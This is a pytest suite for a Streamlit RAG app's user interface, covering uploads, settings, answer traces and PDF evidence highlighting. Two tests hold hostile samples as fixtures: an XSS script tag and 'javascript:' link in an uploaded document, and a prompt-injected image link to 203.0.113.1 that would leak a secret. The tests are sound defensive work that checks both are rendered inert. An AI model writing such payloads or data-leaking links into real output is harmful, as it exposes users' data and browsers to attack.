"""The Streamlit UI (app.py) driven through streamlit's AppTest, in this process.

Models are cached with st.cache_resource, so the embedder and the LLM load once
for all tests here. Every test gets its own data dir through HOPRAG_DATA_DIR.
"""

from __future__ import annotations

import html
import re
import threading
from pathlib import Path

import pytest

pytest.importorskip("streamlit", reason="the UI tests need the 'ui' extra: pip install 'hoprag[ui]'")
from streamlit.testing.v1 import AppTest  # noqa: E402

from rag import RAG  # noqa: E402
from rag.sample import sample_paths  # noqa: E402
from fakes import free_port  # noqa: E402

APP = Path(__file__).resolve().parents[2] / "app.py"
GOOD_MD = b"# Field notes\n\nThe launch code is BLUE-42. It is kept in the vault under the lighthouse.\n"
GOOD_TXT = b"Otters hold hands while sleeping so they do not drift apart.\n"
BAD_PDF = b"%PDF-1.4\nthis is not really a PDF"


@pytest.fixture
def ui_env(tmp_path, monkeypatch):
    """A throwaway data dir and short answers for the app under test."""
    monkeypatch.setenv("HOPRAG_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("HOPRAG_MAX_NEW_TOKENS", "16")
    monkeypatch.setenv("HOPRAG_TOP_K", "2")  # a short prompt: the local LLM shares two cores
    for name in ("HOPRAG_ENGINE", "HOPRAG_LLM_BASE_URL", "HOPRAG_LLM_MODEL", "HOPRAG_KB"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.chdir(tmp_path)  # no hoprag.toml from the repo
    return tmp_path


def plain(markdown: str) -> str:
    """Undo Markdown backslash escapes (the app escapes every document/user string)."""
    return re.sub(r"\\(.)", r"\1", markdown)


def text_of(fragment: str) -> str:
    """The text a browser shows for the app's HTML (answers and passages are safe HTML blocks)."""
    return html.unescape(re.sub(r"<br>", "\n", re.sub(r"<(?!br>)[^>]*>", "", fragment)))


def start() -> AppTest:
    at = AppTest.from_file(str(APP), default_timeout=240)
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def upload(at: AppTest, files: list[tuple[str, bytes, str]], wait: bool = True) -> AppTest:
    """Upload through the form; ingest runs in a background thread, so rerun until it is done."""
    at.file_uploader(key="uploads").set_value(files)
    at.button(key="add_files").click().run()
    assert not at.exception, [e.value for e in at.exception]
    if wait:
        assert at.session_state.ingest_job.wait(timeout=120), "ingest did not finish"
        at.run()
    return at


closed_port = free_port


def use_unreachable_server(at: AppTest) -> AppTest:
    at.radio(key="set_engine").set_value("openai")
    at.text_input(key="set_url").set_value(f"http://127.0.0.1:{closed_port()}/v1")
    at.text_input(key="set_model").set_value("some-model")
    at.button(key="apply_settings").click().run()
    assert not at.error, [e.value for e in at.error]
    assert at.session_state.settings.engine == "openai"
    return at


def doc_names(at: AppTest) -> list[str]:
    return [plain(m.value.split("**")[1]) for m in at.markdown if m.value.startswith("**") and " · added " in m.value]


@pytest.mark.slow
def test_sample_question_gets_a_cited_answer(ui_env):
    """Issue 2's must-show: empty state → load the sample docs → a vLLM question gets a cited, streamed answer."""
    at = start()
    assert any("knowledge base is empty" in i.value for i in at.info)
    at.button(key="load_sample").click().run()
    assert not at.exception, [e.value for e in at.exception]
    names = doc_names(at)
    assert "README.md" in names and len(names) == len(sample_paths())

    at.chat_input(key="question").set_value("How do I point hoprag at a vLLM server?").run()
    assert not at.exception, [e.value for e in at.exception]
    answer = at.session_state.messages[-1]["answer"]
    assert not answer.error and answer.text.strip()
    assert answer.citations, "the answer must cite a passage"
    sample_sources = {str(p) for p in sample_paths()}
    assert {c.source for c in answer.citations} <= sample_sources
    assistant = [cm for cm in at.chat_message if cm.name == "assistant"][-1]
    labels = [e.label for e in assistant.expander]
    sources = [e for e in assistant.expander if e.label.startswith("\\[")]  # cited passages, by number
    first = min(answer.citations, key=lambda c: c.number)
    assert plain(sources[0].label).startswith(f"[{first.number}] ")
    assert "How this answer was found" in labels
    # the passage text of the citation is shown (escaped) inside its expander
    assert any(first.text[:40] in text_of(m.value) for m in sources[0].markdown)
    assert any(m.label == "First token" for m in assistant.get("metric"))
    # history survives a rerun and a new chat clears it
    at.run()
    assert [cm.name for cm in at.chat_message] == ["user", "assistant"]
    at.button(key="new_chat").click().run()
    assert not at.chat_message and at.session_state.messages == []


def test_upload_good_and_bad_files(ui_env):
    at = start()
    upload(
        at,
        [
            ("notes.md", GOOD_MD, "text/markdown"),
            ("broken.pdf", BAD_PDF, "application/pdf"),
            ("otters.txt", GOOD_TXT, "text/plain"),
        ],
    )
    errors = [e.value for e in at.error]
    assert len(errors) == 1 and plain(errors[0]).startswith("broken.pdf: ") and "PDF" in errors[0]
    bars = {p.proto.text: p.value for p in at.get("progress")}
    assert bars == {"notes.md · added · 1 page, 1 chunk": 100, "otters.txt · added · 1 page, 1 chunk": 100}
    assert sorted(doc_names(at)) == ["notes.md", "otters.txt"]
    # the outcome stays visible after the next rerun
    at.run()
    assert [e.value for e in at.error] == errors
    assert {p.proto.text: p.value for p in at.get("progress")} == bars


def test_questions_can_be_asked_while_files_are_ingested(ui_env, monkeypatch):
    at = start()
    upload(at, [("notes.md", GOOD_MD, "text/markdown")])
    use_unreachable_server(at)
    # hold the next ingest until the question has been answered
    release = threading.Event()
    real_ingest = RAG.ingest

    def held_ingest(self, *args, **kwargs):
        assert release.wait(timeout=120)
        return real_ingest(self, *args, **kwargs)

    monkeypatch.setattr(RAG, "ingest", held_ingest)
    upload(at, [("otters.txt", GOOD_TXT, "text/plain")], wait=False)
    job = at.session_state.ingest_job
    at.run()
    assert not job.done and at.button(key="add_files").disabled
    assert any(p.proto.text == "otters.txt · waiting" for p in at.get("progress"))
    at.chat_input(key="question").set_value("What is the launch code?").run()
    assert not at.exception, [e.value for e in at.exception]
    assert at.session_state.messages[-1]["answer"].citations and not job.done  # answered during the ingest
    release.set()
    assert job.wait(timeout=120)
    at.run()
    assert "otters.txt" in doc_names(at) and not at.button(key="add_files").disabled


def test_delete_a_document(ui_env):
    at = start()
    upload(at, [("notes.md", GOOD_MD, "text/markdown"), ("otters.txt", GOOD_TXT, "text/plain")])
    delete = [b for b in at.button if (b.key or "").startswith("delete-") and "notes.md" in b.help]
    assert len(delete) == 1
    delete[0].click().run()
    assert not at.exception
    assert doc_names(at) == ["otters.txt"]
    assert any(plain(t.value) == "Deleted notes.md." for t in at.toast)


def test_settings_change_and_invalid_values(ui_env):
    at = start()
    at.number_input(key="set_top_k").set_value(3)
    at.selectbox(key="set_strategy").set_value("hybrid")
    at.number_input(key="set_hops").set_value(3)
    at.toggle(key="set_kv_cache").set_value(False)
    at.button(key="apply_settings").click().run()
    s = at.session_state.settings
    assert (s.top_k, s.strategy, s.hops, s.kv_cache) == (3, "hybrid", 3, False)
    assert not at.error

    # OpenAI-compatible engine without a URL: one clear line, old settings kept
    at.radio(key="set_engine").set_value("openai")
    at.button(key="apply_settings").click().run()
    assert [e.value for e in at.error] and "needs HOPRAG_LLM_BASE_URL" in plain(at.error[0].value)
    assert at.session_state.settings.engine == "local"
    # a URL without a scheme is refused, naming the value
    at.text_input(key="set_url").set_value("localhost:8000")
    at.text_input(key="set_model").set_value("m")
    at.button(key="apply_settings").click().run()
    assert "llm_base_url='localhost:8000' is not an http(s) URL" in plain(at.error[0].value)
    # values persist in the session across reruns
    at.run()
    assert at.session_state.settings.top_k == 3 and at.number_input(key="set_top_k").value == 3

    # knowledge bases: a bad name is refused, a good one is created and switched to
    at.text_input(key="new_kb").set_value("bad name!")
    at.button(key="create_kb").click().run()
    assert any("'bad name!' is not allowed" in plain(e.value) for e in at.error)
    at.text_input(key="new_kb").set_value("papers")
    at.button(key="create_kb").click().run()
    assert at.session_state.settings.kb == "papers"
    assert at.selectbox(key="kb_select").value == "papers"


def test_server_unreachable_gives_retrieval_only_answer(ui_env):
    at = start()
    upload(at, [("notes.md", GOOD_MD, "text/markdown")])
    use_unreachable_server(at)
    at.chat_input(key="question").set_value("What is the launch code?").run()
    assert not at.exception, [e.value for e in at.exception]
    warning = plain(at.warning[0].value)
    assert "retrieval-only" in warning and "unreachable" in warning and "Check that" in warning
    answer = at.session_state.messages[-1]["answer"]
    assert answer.text == "" and answer.error
    assistant = [cm for cm in at.chat_message if cm.name == "assistant"][-1]
    assert plain(assistant.expander[0].label).startswith("[1] notes.md")
    assert "BLUE-42" in text_of(assistant.expander[0].markdown[0].value)


def test_trace_shows_each_step_with_hits_and_timings(ui_env):
    at = start()
    upload(at, [("notes.md", GOOD_MD, "text/markdown"), ("otters.txt", GOOD_TXT, "text/plain")])
    use_unreachable_server(at)
    at.selectbox(key="set_strategy").set_value("hybrid")
    at.button(key="apply_settings").click().run()
    at.chat_input(key="question").set_value("What is the launch code?").run()
    assert not at.exception, [e.value for e in at.exception]
    assistant = [cm for cm in at.chat_message if cm.name == "assistant"][-1]
    trace = next(e for e in assistant.expander if e.label == "How this answer was found")
    steps = [plain(m.value).split(" · ")[0] for m in trace.markdown if m.value.startswith("**")]
    assert steps == ["**1. dense**", "**2. bm25**", "**3. fuse**", "**4. evidence**", "**5. generate**"]
    assert {m.label for m in trace.get("metric")} == {"First token", "Total", "Prompt tokens", "Cached"}
    assert any(plain(c.value).startswith("prompt tokens: ") for c in trace.caption)
    first = trace.dataframe[0].value
    assert list(first.columns[:3]) == ["rank", "score", "document"] and first["document"][0] == "notes.md"


def test_sessions_do_not_share_chats(ui_env):
    first, second = start(), start()
    upload(first, [("notes.md", GOOD_MD, "text/markdown")])
    for at in (first, second):
        use_unreachable_server(at)
    first.chat_input(key="question").set_value("What is the launch code?").run()
    second.run()
    assert len(first.session_state.messages) == 2
    assert second.session_state.messages == [] and not second.chat_message
    assert "notes.md" in doc_names(second)  # the knowledge base itself is shared
    assert first.session_state.session_id != second.session_state.session_id


def test_passage_text_is_shown_literally(ui_env):
    """A document's markup is shown as text in its source panel: never run, never rendered as Markdown."""
    at = start()
    evil = b"# Trap\n\nClick <script>alert(1)</script> and **bold** [link](javascript:alert(1)) now.\n"
    upload(at, [("trap.md", evil, "text/markdown")])
    use_unreachable_server(at)
    at.chat_input(key="question").set_value("What should I click?").run()
    shown = [cm for cm in at.chat_message if cm.name == "assistant"][-1].expander[0].markdown[0].value
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in shown and "**bold**" in shown
    assert "[link](javascript&#58;alert(1))" in shown
    assert "Click <script>alert(1)</script> and **bold** [link](javascript:alert(1)) now." in text_of(shown)
    assert not re.search(r"<(script|a|img)\b", shown) and not at.get("html")


def test_model_output_markup_is_made_safe(ui_env, monkeypatch):
    """A passage can steer the model into writing an image link that would leak data: it is never fetched."""
    from rag.types import Answer

    evil = "See ![x](http://203.0.113.1/leak?q=secret) <b>now</b> **really** [1]"

    def fake_stream(self, question, history=None, **kwargs):
        yield evil
        yield Answer(question, evil, ())

    at = start()
    upload(at, [("notes.md", GOOD_MD, "text/markdown")])
    monkeypatch.setattr(RAG, "stream", fake_stream)
    at.chat_input(key="question").set_value("What is the launch code?").run()
    assert not at.exception, [e.value for e in at.exception]
    for _ in range(2):  # the streamed turn, then the rerun that draws the history
        shown = [m.value for m in [cm for cm in at.chat_message if cm.name == "assistant"][-1].markdown][0]
        assert "[image&#58; x]" in shown and "203.0.113.1" not in shown and "<img" not in shown
        assert "&lt;b&gt;now&lt;/b&gt;" in shown and "<strong>really</strong>" in shown
        at.run()


def test_uploaded_pdf_answer_highlights_evidence_and_opens_its_page(ui_env):
    """The issue's user path: upload a PDF, ask, read the evidence highlighted, open the page it is on."""
    from fpdf import FPDF

    pdf = FPDF(format="A4")
    pdf.set_font("helvetica", size=12)
    pdf.add_page()
    pdf.multi_cell(0, 6, "Chapter 1. Plotting: use plot (x, y) to draw lines.", new_x="LMARGIN", new_y="NEXT")
    pdf.add_page()
    pdf.multi_cell(0, 6, "Chapter 2. Linear algebra. To compute the LU factorization of a matrix A, call "
                         "[L, U, P] = lu (A). Other factorizations include chol and qr.",
                   new_x="LMARGIN", new_y="NEXT")
    at = start()
    upload(at, [("liboctave.pdf", bytes(pdf.output()), "application/pdf")])
    at.selectbox(key="set_answer_mode").set_value("extractive")  # no language model: exact and quick
    at.button(key="apply_settings").click().run()
    at.chat_input(key="question").set_value("How do I compute the LU factorization of a matrix?").run()
    assert not at.exception, [e.value for e in at.exception]
    answer = at.session_state.messages[-1]["answer"]
    assert answer.mode == "extractive" and "lu (A)" in answer.text
    assistant = [cm for cm in at.chat_message if cm.name == "assistant"][-1]
    source = next(e for e in assistant.expander if plain(e.label).startswith("[1] liboctave.pdf · page 2"))
    assert re.search(r"<mark[^>]*>[^<]*call \[L, U, P\] = lu \(A\)\.", source.markdown[0].value)
    toggle = next(t for t in source.toggle if t.label == "Page view")
    toggle.set_value(True).run()
    assert not at.exception, [e.value for e in at.exception]
    images = [cm for cm in at.chat_message if cm.name == "assistant"][-1].get("image")
    assert [i.captions for i in images] == [["liboctave.pdf, page 2 (evidence highlighted)"]]
